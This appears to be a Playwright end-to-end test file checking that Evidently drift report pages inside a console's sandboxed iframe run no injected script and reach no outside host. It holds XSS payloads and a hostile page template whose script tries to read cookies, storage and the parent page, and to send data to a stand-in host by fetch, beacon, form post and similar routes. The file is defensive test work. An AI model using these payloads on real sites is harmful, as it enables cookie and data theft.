"""Evidently's page in a real browser: no text of the data runs in it, and what runs there reaches nobody."""

import os
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Frame, expect

from keepfit import Column, Target
from monitoring.sealing import neutral, sealed
from tests.browsing import open_browser
from tests.console.hostile import WATCH, serving
from tests.console.opening import console_on
from tests.console.payloads import PAYLOADS
from tests.console.test_payloads import Watched
from tests.console.years import EVERY, START, Year, verdict, write_watch
from tests.monitoring.test_reports import before, report
from tests.monitoring.windows_of import project, window

pytestmark = pytest.mark.e2e

NAMES = 11
"""So many columns beside an answer are drawn on one page."""
ADMITTED = [text for text in PAYLOADS if text.isprintable() and not set(text) & {'"', "\\"}]
"""The others are refused as names of columns; as categories all of them are taken."""
EVERY_PAYLOAD = "EVERY_PAYLOAD" in os.environ
BATCHES = range(-(-len(ADMITTED) // NAMES)) if EVERY_PAYLOAD else [0]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


def drawn(folder: Path, names: Sequence[str], categories: Sequence[str]) -> str:
    """Let Evidently draw columns of such names, with such categories dealt out to them, and such classes."""
    classes = ["</script><script>pwn(0)</script>", "<img src=x onerror=pwn(0)>", "=1+1"]
    changed = {"features": {name: Column.category() for name in names}, "metrics": ["neg_log_loss"]}
    made = project("multiclass", target=Target.multiclass("<b>way</b>", classes), **changed)
    renamed = dict(zip(("road", "air", "rail"), classes, strict=True))

    def dealt(examples: Any, turn: int) -> Any:
        told: dict[str, Any] = {}
        for place, name in enumerate(names):
            mine = np.array(categories[place :: len(names)], dtype=object)
            told[name] = mine[(np.arange(len(examples)) * (turn + place)) % len(mine)]
        labels = np.array([renamed[label] for label in examples.labels], dtype=object)
        fields = {"features": pd.DataFrame(told).astype(object), "labels": labels}
        return type(examples)(**{**vars(examples), **fields})

    found = report(folder, made, dealt(before("multiclass"), 1), dealt(window(kind="multiclass", seed=2), 2))
    return found.page.read_text(encoding="utf-8")


@pytest.mark.long
@pytest.mark.parametrize("batch", BATCHES)
def test_evidently_draws_every_text_and_runs_none(browser: Browser, tmp_path: Path, batch: int) -> None:
    names = ADMITTED[NAMES * batch : NAMES * (batch + 1)]
    page = drawn(tmp_path / "drawn", names, PAYLOADS)
    year = Year(tmp_path / "home")
    write_watch(year.sources.reports, START + EVERY, verdict(1, 1, tuple(names)), page=page)
    with console_on(year.settings) as url:
        watched = Watched(browser.new_context(), url)
        for address in (f"{url}{WATCH}", f"{url}{WATCH}/page", (tmp_path / "drawn/report.html").as_uri()):
            watched.page.goto(address)
            frame = watched.page.frames[-1] if address.startswith(url) else watched.page.main_frame
            if address.startswith(url):
                watched.page.locator("iframe").scroll_into_view_if_needed()
                frame = inside(watched.page.frames)
            expect(frame.locator(".js-plotly-plot").nth(len(names) - 1)).to_be_attached()
            shown = frame.locator("body").inner_text()
            assert [name for name in neutral(names) if f"Drift in column '{name}'" not in shown] == []
            assert frame.locator("script").count() == 4
            assert watched.page.url == address
        elsewhere = [each for each in watched.elsewhere() if not each.startswith("file:")]
        assert (watched.ran, elsewhere, watched.said) == ([], [], [])
        watched.context.close()


def inside(frames: Sequence[Frame]) -> Frame:
    """Find the frame of Evidently's page."""
    return next(frame for frame in frames if frame.url.endswith("/page") and frame.parent_frame)


def test_a_page_with_a_script_more_than_evidently_writes_is_not_kept() -> None:
    scripts = "<script>1</script>" * 4
    assert "script-src 'sha256-" in sealed(f"<head></head>{scripts}")
    with pytest.raises(ValueError, match="has 5 scripts instead of 4"):
        sealed(f"<head></head>{scripts}<script>pwn(0)</script>")


@pytest.mark.parametrize(
    "more", ["<img src=x onerror=pwn(0)>", "<svg onload=pwn(0)>", "<a href=javascript:pwn(0)>"]
)
def test_no_event_runs_in_a_sealed_page(browser: Browser, tmp_path: Path, more: str) -> None:
    scripts = "<script>document.title = 'ran'</script>" * 4
    (tmp_path / "page.html").write_text(
        sealed(f"<html><head></head><body><main>{more}x</main>{scripts}</body></html>")
    )
    watched = Watched(browser.new_context(), "file://")
    watched.page.goto((tmp_path / "page.html").as_uri())
    watched.page.locator("main > *").click(force=True)
    assert watched.page.title() == "ran"
    assert watched.ran == []
    assert "Content Security Policy" in " ".join(watched.said)
    watched.context.close()


# What a script in Evidently's page might try; each says whether it got there. THERE is somebody else.
ATTEMPTS = {
    "a cookie": "document.cookie || 'none'",
    "a cookie of its own": "(document.cookie = 'x=1')",
    "local storage": "localStorage.getItem('secret')",
    "session storage": "sessionStorage.length + 1",
    "a database": "indexedDB.open('x')",
    "caches": "await caches.open('x')",
    "the page around it": "parent.document.body.innerHTML",
    "the page at the top": "top.document.title",
    "who opened it": "opener.document.title",
    "a fetch of the console": "await fetch('/quarantine')",
    "a fetch from elsewhere": "await fetch('THERE/fetch', {mode: 'no-cors'})",
    "a request": "await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; "
    "r.onerror = no; r.open('GET', 'THERE/xhr'); r.send(); })",
    "an image": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; "
    "i.src = 'THERE/image'; })",
    "a socket": "await new Promise((ok, no) => { const s = new WebSocket('THERE/s'.replace('http', 'ws')); "
    "s.onopen = ok; s.onerror = no; })",
    "events": "await new Promise((ok, no) => { const e = new EventSource('THERE/events'); e.onopen = ok; "
    "e.onerror = no; })",
    "a module": "await import('THERE/module.js')",
    "a script": "await new Promise((ok, no) => { const s = document.createElement('script'); "
    "s.onload = ok; s.onerror = no; s.src = 'THERE/script.js'; document.body.append(s); })",
    "a style": "await new Promise((ok, no) => { const l = document.createElement('link'); "
    "Object.assign(l, {rel: 'stylesheet', onload: ok, onerror: no, href: 'THERE/style.css'}); "
    "document.body.append(l); })",
    "a worker": "await new Promise((ok, no) => { const w = new Worker('data:,postMessage(1)'); "
    "w.onmessage = ok; w.onerror = no; })",
    "eval": "(0, eval)('1 + 1')",
    "a popup": "open('THERE/popup').closed",
    "a dialog": "confirm('really?') || (() => { throw 'refused' })()",
    "a service worker": "await navigator.serviceWorker.register('/static/again.js')",
    "the place": "await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))",
}
# These say nothing of their success: what counts is that nobody is asked and nothing moves.
UNSAID = """
navigator.sendBeacon('THERE/beacon', 'x');
for (const rel of ['prefetch', 'preload', 'icon', 'modulepreload', 'manifest']) {
  const link = document.createElement('link');
  Object.assign(link, {rel, as: 'image', href: `THERE/${rel}`});
  document.head.append(link);
}
for (const [tag, attribute] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['video', 'src']]) {
  const made = document.createElement(tag);
  made[attribute] = `THERE/${tag}`;
  document.body.append(made);
}
const form = document.createElement('form');
Object.assign(form, {action: 'THERE/form', method: 'post'});
document.body.append(form);
try { form.submit(); } catch {}
const link = document.createElement('a');
Object.assign(link, {href: 'THERE/download', download: 'x', ping: 'THERE/ping'});
document.body.append(link);
link.click();
link.removeAttribute('download');
for (const target of ['_top', '_parent', '_blank']) { link.target = target; link.click(); }
try { top.location = 'THERE/top'; } catch {}
try { parent.location.replace('THERE/parent'); } catch {}
"""
LAST = "location = 'THERE/itself'"


def hostile_page(there: str) -> str:
    """Write a page that tries everything, says in its title what it reached, and at last goes elsewhere."""
    tries = "".join(
        f"try {{ const got = {attempt}; reached.push({name!r}); }} catch {{}}\n"
        for name, attempt in ATTEMPTS.items()
    )
    script = f"const reached = [];\n{tries}await pwn(reached);\n{UNSAID}{LAST};"
    whole = f"<body>drawn<script>(async () => {{ {script} }})()</script>"
    return f"<!doctype html><html>{whole.replace('THERE', there)}</body></html>"


def turned_away(said: ConsoleMessage) -> bool:
    """Tell whether the page around a frame kept it from going elsewhere."""
    return said.text.startswith("Framing ") and "\"frame-src 'self'\"" in said.text


def test_whatever_runs_in_the_sandbox_reaches_nothing_and_nobody(browser: Browser, tmp_path: Path) -> None:
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as http.server wants it

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    year = Year(tmp_path)
    with serving(Listening) as port, console_on(year.settings) as url:
        page = hostile_page(f"http://127.0.0.1:{port}")
        write_watch(year.sources.reports, START + EVERY, verdict(1, 1, year.names), page=page)
        watched = Watched(browser.new_context(), url)
        watched.page.goto(url)
        watched.page.evaluate("localStorage.setItem('secret', '1'); document.cookie = 'secret=1'")
        for address in (f"{url}{WATCH}", f"{url}{WATCH}/page"):
            watched.ran.clear()
            # It ran, so that only the sandbox stood in its way; and at last it tried to leave its frame.
            with watched.page.expect_event("console", turned_away, timeout=10_000):
                watched.page.goto(address)
                watched.page.locator("iframe").scroll_into_view_if_needed()
            assert watched.ran == [([],)]
            assert watched.page.url == address
        assert asked == []
        assert [each for each in watched.asked if each.startswith(("popup", "download"))] == []
        watched.context.close()
